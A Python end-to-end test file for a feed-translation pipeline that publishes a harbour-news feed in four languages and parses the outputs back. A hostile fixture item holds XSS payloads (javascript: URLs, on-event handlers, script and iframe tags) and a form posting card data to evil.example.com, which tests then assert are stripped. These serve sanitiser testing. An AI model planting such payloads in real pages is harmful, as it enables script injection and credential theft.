"""The whole article through every stage, with real Apertium into es, ca, gl and eo.

A feed served by a real local server carries the item of issue 8 (a figure with its
caption, two ``<h2>``, a ``<ul>`` and an ``<ol>``, a quote and a table, ``dc:creator``,
two categories, a ``media:content`` image), an episode with an audio enclosure, and a
hostile item. One pass of the pipeline publishes them; the tests read the outputs back
the way subscribers and partner sites do: feedparser for Atom and RSS, JSON Feed by its
rules, the RFC 4287 schema, the pages' HTML and OpenGraph tags. Spanish is published
bilingual (``[translate] bilingual = ["es"]``), the other languages are not.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import feedparser
import lxml.html
import pytest

from syndicate.config import load_settings
from syndicate.models import RunReport
from syndicate.publish.pages import og_locale
from syndicate.store import Store
from syndicate.work import once
from tests.conftest import Clock
from tests.publish.feedcheck import atom_problems, json_feed_problems, rss_problems
from tests.sources.site import TestSite

LANGUAGES = ("es", "ca", "gl", "eo")
#: Common function words of each target language: a translated text reads as the language.
FUNCTION_WORDS = {
    "es": {"el", "la", "los", "las", "de", "del", "que", "y", "en", "un", "una", "por", "con", "para", "al"},
    "ca": {"el", "la", "els", "les", "de", "del", "que", "i", "en", "un", "una", "per", "amb", "al", "dels"},
    "gl": {
        "o",
        "a",
        "os",
        "as",
        "de",
        "do",
        "da",
        "dos",
        "das",
        "que",
        "e",
        "en",
        "un",
        "unha",
        "por",
        "con",
        "para",
        "no",
        "na",
    },
    "eo": {"la", "de", "kaj", "en", "al", "por", "kun", "estas", "ke", "el", "sur", "je"},
}
ENGLISH = {"the", "and", "of", "with", "from", "for", "is", "are", "at"}

STORY = """
<p>The city reopened its harbour museum on Saturday after a renovation that took three years and cost more than the council had planned.</p>
<figure class="wp-block-image size-large"><img src="https://harbour.example.org/media/museum-hall.jpg" width="1600" height="900"
 srcset="https://harbour.example.org/media/museum-hall-800.jpg 800w, https://harbour.example.org/media/museum-hall.jpg 1600w"
 alt="The main hall of the museum with an old fishing boat"><figcaption>The old fishing boat stands again in the main hall of the museum.</figcaption></figure>
<h2>What visitors will find</h2>
<p>The collection tells the story of the port from the first fishermen to the container ships of today.</p>
<ul><li>A room about the fishing fleet and its families</li><li>Maps of the harbour drawn by hand in the last century</li><li>A workshop where children can build small boats</li></ul>
<h2>How to visit</h2>
<ol><li>Buy a ticket at the door or on the website</li><li>Leave large bags in the room next to the entrance</li><li>Start the visit on the top floor and walk down</li></ol>
<blockquote cite="https://harbour.example.org/speeches/opening"><p>This museum belongs to the people who built the harbour with their hands.</p></blockquote>
<table><thead><tr><th>Day of the week</th><th>Opening time</th><th>Closing time</th></tr></thead>
<tbody><tr><td>From Monday to Friday</td><td>10:00</td><td>18:00</td></tr>
<tr><td>Saturday and Sunday</td><td>09:00</td><td>20:00</td></tr></tbody></table>
<p>Entry is free for children and for people who live in the city.</p>
"""

EPISODE = (
    """<p>In this episode the director of the museum talks about the old boats and the people who sailed them.</p>"""
)

_WIDE_ROW = "".join(f"<td>{n}</td>" for n in range(5000))
HOSTILE = f"""
<p onclick="alert(1)" style="color:red">The council published a short notice about the new parking rules near the harbour.</p>
<img src="https://harbour.example.org/media/parking.jpg" onerror="alert(2)" alt="A parking sign near the harbour">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk" alt="A tracking pixel">
<figure><img srcset="javascript:alert(3) 800w, javascript:alert(4) 1600w" alt="A script instead of a picture"><figcaption>A picture that is not there.</figcaption></figure>
<iframe src="javascript:alert(5)" title="A frame that runs a script"></iframe>
<iframe src="https://video.example.net/embed/parking" title="A video about the parking rules"></iframe>
<object data="https://harbour.example.org/flash.swf" type="application/x-shockwave-flash"><param name="movie" value="flash.swf"></object>
<form action="https://evil.example.com/steal"><input name="card"><button>Pay</button></form>
<style>body {{ display: none }}</style>
<script>alert(6)</script>
<p>Read the <a href="javascript:alert(7)">rules</a> and the <a href="https://harbour.example.org/rules" onmouseover="alert(8)">official text</a>.</p>
<table><tr>{_WIDE_ROW}</tr><tr><td>Parking places near the harbour</td></tr></table>
"""


def rss_feed(base: str) -> str:
    def cdata(text: str) -> str:
        return f"<![CDATA[{text}]]>"

    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:media="http://search.yahoo.com/mrss/" xmlns:atom="http://www.w3.org/2005/Atom">
<channel>
<title>Harbour Gazette</title>
<link>https://harbour.example.org/</link>
<atom:link href="{base}/feed.xml" rel="self" type="application/rss+xml"/>
<description>News from the harbour</description>
<language>en</language>
<item>
<title>Harbour museum reopens after three years</title>
<link>https://harbour.example.org/2026/03/museum-reopens/</link>
<guid isPermaLink="false">harbour-museum-2026</guid>
<pubDate>Sat, 07 Mar 2026 10:00:00 +0000</pubDate>
<dc:creator>Maria Okafor</dc:creator>
<category>Culture</category>
<category>Local news</category>
<media:content url="https://harbour.example.org/media/museum-front.jpg" medium="image" type="image/jpeg" width="1200" height="630"/>
<description>The harbour museum reopened on Saturday.</description>
<content:encoded>{cdata(STORY)}</content:encoded>
</item>
<item>
<title>Podcast: the boats of the harbour museum</title>
<link>https://harbour.example.org/podcast/boats/</link>
<guid isPermaLink="false">harbour-podcast-12</guid>
<pubDate>Sun, 08 Mar 2026 08:00:00 +0000</pubDate>
<dc:creator>Tom Reyes</dc:creator>
<enclosure url="https://media.example.org/harbour/episode-12.mp3" length="23456789" type="audio/mpeg"/>
<content:encoded>{cdata(EPISODE)}</content:encoded>
</item>
<item>
<title>New parking rules near the harbour</title>
<link>https://harbour.example.org/2026/03/parking/</link>
<guid isPermaLink="false">harbour-parking-2026</guid>
<pubDate>Mon, 09 Mar 2026 08:00:00 +0000</pubDate>
<content:encoded>{cdata(HOSTILE)}</content:encoded>
</item>
</channel>
</rss>
"""


STORY_TITLE = "Harbour museum reopens after three years"
EPISODE_TITLE = "Podcast: the boats of the harbour museum"
HOSTILE_TITLE = "New parking rules near the harbour"
ENCLOSURE = ("https://media.example.org/harbour/episode-12.mp3", "audio/mpeg", 23456789)


@dataclass(frozen=True)
class Run:
    directory: Path
    report: RunReport
    slugs: dict[str, str]  # source title -> slug


def write_config(directory: Path, feed_url: str) -> Path:
    config = directory / "config.toml"
    config.write_text(
        f"""
[site]
title = "Harbour Gazette translated"
base_url = "https://news.example.org/"
source_language = "en"
author = "Translation desk"

[output]
feeds_dir = "feeds"
translations_dir = "translations"
state_dir = "state"

[translate]
languages = {json.dumps(list(LANGUAGES))}
engines = ["apertium"]
bilingual = ["es"]

[[sources]]
name = "harbour"
type = "feed"
url = "{feed_url}"
retries = 0
timeout = "5s"
""",
        encoding="utf-8",
    )
    return config


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    directory = tmp_path_factory.mktemp("articles-e2e")
    with TestSite() as site:
        site.page("/feed.xml", rss_feed(site.base), content_type="application/rss+xml; charset=utf-8")
        settings = load_settings(write_config(directory, site.url("/feed.xml")))
        store = Store.open(settings.state_dir)
        try:
            report = once(settings, store, clock=Clock())
            slugs = {sa.article.title: sa.slug for sa in store.articles.all()}
        finally:
            store.close()
    yield Run(directory, report, slugs)


# -- helpers -------------------------------------------------------------------------------------


def fragment(html: str) -> lxml.html.HtmlElement:
    return lxml.html.fragment_fromstring(html, create_parent="div")


def translated_part(root: lxml.html.HtmlElement) -> lxml.html.HtmlElement:
    """The body without the originals a bilingual edition interleaves (and, on a page,
    without the lists of the article's tags and files, which follow the body)."""
    for original in root.xpath(
        './/*[contains(concat(" ", @class, " "), " syndicate-original ")]'
        ' | .//ul[@class="tags"] | .//ul[@class="enclosures"]'
    ):
        original.drop_tree()
    return root


def counts(root: lxml.html.HtmlElement) -> dict[str, int]:
    return {
        "headings": len(root.xpath(".//h2 | .//h3 | .//h4 | .//h5 | .//h6")),
        "list items": len(root.xpath(".//li")),
        "quotes": len(root.xpath(".//blockquote")),
        "figures": len(root.xpath(".//figure")),
        "table cells": len(root.xpath(".//td | .//th")),
    }


def words(text: str) -> list[str]:
    return re.findall(r"[^\W\d_]+", text.casefold())


def reads_as(text: str, language: str) -> bool:
    """At least one function word of ``language`` and no more English ones than it has."""
    found = words(text)
    native = sum(1 for w in found if w in FUNCTION_WORDS[language])
    english = sum(1 for w in found if w in ENGLISH)
    return native >= 1 and native > english


def atom(run: Run, language: str) -> Any:
    parsed = feedparser.parse((run.directory / "feeds" / language / "atom.xml").read_bytes())
    assert not parsed.bozo, parsed.get("bozo_exception")
    return parsed


def entry(parsed: Any, run: Run, title: str) -> Any:
    """The entry translating the source article ``title`` (found by its page URL)."""
    slug = run.slugs[title]
    found = [e for e in parsed.entries if any(link.href.endswith(f"/{slug}.html") for link in e.links)]
    assert len(found) == 1, [e.link for e in parsed.entries]
    return found[0]


def page(run: Run, language: str, title: str) -> lxml.html.HtmlElement:
    return lxml.html.parse(str(run.directory / "translations" / language / f"{run.slugs[title]}.html")).getroot()


SOURCE = fragment(STORY)


# -- the run -----------------------------------------------------------------------------------


def test_run_publishes_every_item_in_every_language(run: Run) -> None:
    assert run.report.ok, (run.report.failures, run.report.unserved_languages)
    assert run.report.articles_new == 3
    assert run.report.translations_written == 3 * len(LANGUAGES)
    for language in LANGUAGES:
        assert len(atom(run, language).entries) == 3


# -- structure, translation and metadata, in every language ----------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_structure_is_kept_block_for_block(run: Run, language: str) -> None:
    want = counts(SOURCE)
    assert want == {
        "headings": 2,
        "list items": 6,
        "quotes": 1,
        "figures": 1,
        "table cells": 9,
    }  # the input, as written
    content = entry(atom(run, language), run, STORY_TITLE).content[0].value
    assert counts(translated_part(fragment(content))) == want
    body = page(run, language, STORY_TITLE).xpath("//article")[0]
    assert counts(translated_part(body)) == want
    json_item = next(
        i
        for i in json.loads((run.directory / "feeds" / language / "feed.json").read_bytes())["items"]
        if i["url"].endswith(f"/{run.slugs[STORY_TITLE]}.html")
    )
    assert counts(translated_part(fragment(json_item["content_html"]))) == want


@pytest.mark.parametrize("language", LANGUAGES)
def test_captions_alt_headings_items_and_cells_are_translated(run: Run, language: str) -> None:
    body = translated_part(fragment(entry(atom(run, language), run, STORY_TITLE).content[0].value))

    def pairs(xpath: str) -> list[tuple[str, str]]:
        source = [s.text_content().strip() for s in SOURCE.xpath(xpath)]
        target = [t.text_content().strip() for t in body.xpath(xpath)]
        assert len(source) == len(target) > 0, xpath
        return list(zip(source, target, strict=True))

    texts = pairs(".//figcaption") + pairs(".//h2") + pairs(".//li") + pairs(".//blockquote") + pairs(".//p")
    texts += [(s, t) for s, t in pairs(".//td | .//th") if words(s)]  # 10:00 and 18:00 stay as they are
    alt = [(SOURCE.xpath(".//img/@alt")[0], body.xpath(".//img/@alt")[0])]
    for english, translated in texts + alt:
        assert translated and translated != english, (english, translated)
    # Each kind reads as the language (short labels like "Closing time" may hold no
    # function word, so the kinds are read together).
    for kind in (".//figcaption", ".//li", ".//td | .//th", ".//p", ".//blockquote"):
        assert reads_as(" ".join(t for _, t in pairs(kind)), language), (kind, pairs(kind))
    assert reads_as(alt[0][1], language), alt
    # Numbers stay as they are.
    assert [td.text_content() for td in body.xpath(".//td")][1:3] == ["10:00", "18:00"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_authors_enclosures_and_image_are_the_originals(run: Run, language: str) -> None:
    parsed = atom(run, language)
    story = entry(parsed, run, STORY_TITLE)
    assert [a.name for a in story.authors] == ["Maria Okafor"]
    episode = entry(parsed, run, EPISODE_TITLE)
    assert [a.name for a in episode.authors] == ["Tom Reyes"]
    assert [(e.href, e.type, int(e.length)) for e in episode.enclosures] == [ENCLOSURE]
    assert story.media_content[0]["url"] == "https://harbour.example.org/media/museum-front.jpg"
    assert story.media_thumbnail[0]["url"] == "https://harbour.example.org/media/museum-front.jpg"
    # The hostile item names no author: the site's author stands in.
    assert [a.name for a in entry(parsed, run, HOSTILE_TITLE).authors] == ["Translation desk"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_categories_keep_their_term_and_show_a_translated_label(run: Run, language: str) -> None:
    tags = [(t.term, t.label) for t in entry(atom(run, language), run, STORY_TITLE).tags if not t.scheme]
    assert [term for term, _ in tags] == ["Culture", "Local news"]
    labels = dict(tags)
    assert labels["Local news"] and labels["Local news"] != "Local news"
    assert labels["Culture"]
    rss = feedparser.parse((run.directory / "feeds" / language / "rss.xml").read_bytes())
    story = entry(rss, run, STORY_TITLE)
    assert [t.term for t in story.tags if not t.get("scheme")] == [labels["Culture"], labels["Local news"]]


# -- every format parsed back -------------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_atom_is_valid_and_carries_everything(run: Run, language: str) -> None:
    data = (run.directory / "feeds" / language / "atom.xml").read_bytes()
    assert atom_problems(data) == []
    episode = entry(atom(run, language), run, EPISODE_TITLE)
    links = [link for link in episode.links if link.rel == "enclosure"]
    assert [(link.href, link.type, link.length) for link in links] == [(ENCLOSURE[0], ENCLOSURE[1], str(ENCLOSURE[2]))]


@pytest.mark.parametrize("language", LANGUAGES)
def test_rss_is_valid_and_carries_everything(run: Run, language: str) -> None:
    data = (run.directory / "feeds" / language / "rss.xml").read_bytes()
    assert rss_problems(data) == []
    parsed = feedparser.parse(data)
    assert not parsed.bozo, parsed.get("bozo_exception")
    story, episode = entry(parsed, run, STORY_TITLE), entry(parsed, run, EPISODE_TITLE)
    assert story.author == "Maria Okafor" and episode.author == "Tom Reyes"
    assert [(e.href, e.type, int(e.length)) for e in episode.enclosures] == [ENCLOSURE]
    assert story.media_content[0]["url"] == "https://harbour.example.org/media/museum-front.jpg"
    assert story.media_content[0]["medium"] == "image"
    assert story.media_thumbnail[0]["url"] == "https://harbour.example.org/media/museum-front.jpg"
    assert not story.get("enclosures")


@pytest.mark.parametrize("language", LANGUAGES)
def test_json_feed_follows_its_rules(run: Run, language: str) -> None:
    data = (run.directory / "feeds" / language / "feed.json").read_bytes()
    assert json_feed_problems(data) == []
    items = {i["url"].rsplit("/", 1)[-1]: i for i in json.loads(data)["items"]}
    story = items[f"{run.slugs[STORY_TITLE]}.html"]
    episode = items[f"{run.slugs[EPISODE_TITLE]}.html"]
    for item in items.values():
        assert all(
            isinstance(a, dict) and isinstance(a["name"], str) and set(a) <= {"name", "url", "avatar"}
            for a in item["authors"]
        )
        assert all(isinstance(t, str) for t in item.get("tags", []))
        for key in ("image", "banner_image"):
            assert key not in item or re.match(r"^https?://", item[key])
        for attachment in item.get("attachments", []):
            assert re.match(r"^https?://", attachment["url"]) and "/" in attachment["mime_type"]
            assert isinstance(attachment.get("size_in_bytes", 0), int)
    assert story["authors"] == [{"name": "Maria Okafor"}]
    assert story["image"] == "https://harbour.example.org/media/museum-front.jpg"
    assert story["banner_image"] == story["image"]  # 1200x630: wide enough to head the item
    assert len(story["tags"]) == 2 and "Local news" not in story["tags"]  # the translated labels
    assert story["_syndicate"]["tags"] == ["Culture", "Local news"]
    assert episode["attachments"] == [{"url": ENCLOSURE[0], "mime_type": ENCLOSURE[1], "size_in_bytes": ENCLOSURE[2]}]


@pytest.mark.parametrize("language", LANGUAGES)
def test_pages_are_semantic_and_preview_in_the_language(run: Run, language: str) -> None:
    doc = page(run, language, STORY_TITLE)
    assert doc.get("lang") == language
    body = translated_part(doc.xpath("//article")[0])
    figure = body.xpath(".//figure")[0]
    assert figure.xpath("./img[@loading='lazy'][@alt]") and figure.xpath("./figcaption")
    assert figure.xpath("./img/@src") == ["https://harbour.example.org/media/museum-hall.jpg"]  # the widest candidate
    assert body.xpath(".//ul/li") and body.xpath(".//ol/li") and body.xpath(".//blockquote[@cite]")
    assert body.xpath(".//table/thead/tr/th") and body.xpath(".//table/tbody/tr/td")
    og = {m.get("property"): m.get("content") for m in doc.xpath("//meta[@property]")}
    title = entry(atom(run, language), run, STORY_TITLE).title
    assert og["og:title"] == title != STORY_TITLE
    assert og["og:image"] == "https://harbour.example.org/media/museum-front.jpg"
    assert og["og:locale"] == og_locale(language)
    alternates = doc.xpath('//meta[@property="og:locale:alternate"]/@content')
    assert sorted(alternates) == sorted(og_locale(other) for other in LANGUAGES if other != language)


# -- hostile input -------------------------------------------------------------------------------


def _outputs(run: Run) -> list[Path]:
    return [p for d in ("feeds", "translations") for p in sorted((run.directory / d).rglob("*")) if p.is_file()]


def test_hostile_markup_reaches_no_output(run: Run) -> None:
    files = _outputs(run)
    assert len(files) > 20
    for path in files:
        data = path.read_bytes().lower()
        for bad in (
            b"javascript:",
            b"data:image",
            b"onerror",
            b"onclick",
            b"onmouseover",
            b"alert(",
            b"<iframe",
            b"&lt;iframe",
            b"<object",
            b"&lt;object",
            b"<form",
            b"&lt;form",
            b"<script",
            b"&lt;script",
            b"<style",
            b"&lt;style",
            b"evil.example.com",
            b"display: none",
        ):
            assert bad not in data, (path.name, bad)


@pytest.mark.parametrize("language", LANGUAGES)
def test_hostile_item_is_published_clean_and_bounded(run: Run, language: str) -> None:
    content = entry(atom(run, language), run, HOSTILE_TITLE).content[0].value
    root = translated_part(fragment(content))
    assert not root.xpath(".//iframe | .//object | .//embed | .//form | .//input | .//style | .//script | .//param")
    assert not [a for el in root.iter() for a in el.attrib if a.lower().startswith("on") or a == "style"]
    assert all(re.match(r"^https?://", src) for src in root.xpath(".//img/@src | .//a/@href"))
    # The real image and the real video survive, as an image and as a link.
    assert root.xpath(".//img/@src") == ["https://harbour.example.org/media/parking.jpg"]
    assert "https://video.example.net/embed/parking" in root.xpath(".//a/@href")
    # The 5,000-cell row is cut; its text row is still there.
    rows = root.xpath(".//table//tr")
    assert rows and max(len(r.xpath("./td | ./th")) for r in rows) <= 64
    assert len(content) < 60_000
    assert reads_as(root.text_content(), language)


# -- bilingual -----------------------------------------------------------------------------------


def test_spanish_has_each_original_after_its_translation(run: Run) -> None:
    for content in (
        entry(atom(run, "es"), run, STORY_TITLE).content[0].value,
        lxml.html.tostring(page(run, "es", STORY_TITLE).xpath("//article")[0], encoding="unicode"),
    ):
        root = fragment(content)
        originals = root.xpath('//*[contains(concat(" ", @class, " "), " syndicate-original ")]')
        assert originals and all(o.get("lang") == "en" for o in originals)
        # Each original follows its translation, in order, and holds the English block.
        source_blocks = [el for el in SOURCE if isinstance(el.tag, str)]
        assert [re.sub(r"\s+", "", o.text_content()) for o in originals] == [
            re.sub(r"\s+", "", b.text_content()) for b in source_blocks
        ]
        for original in originals:
            before = original.getprevious()
            assert before is not None and before.tag == original[0].tag, lxml.html.tostring(original)[:120]
            assert before.text_content().strip() != original.text_content().strip()


@pytest.mark.parametrize("language", [lang for lang in LANGUAGES if lang != "es"])
def test_other_languages_are_not_bilingual(run: Run, language: str) -> None:
    for path in (run.directory / "feeds" / language).glob("*"):
        assert b"syndicate-original" not in path.read_bytes()
    assert not page(run, language, STORY_TITLE).xpath('//*[contains(@class, "syndicate-original")]')
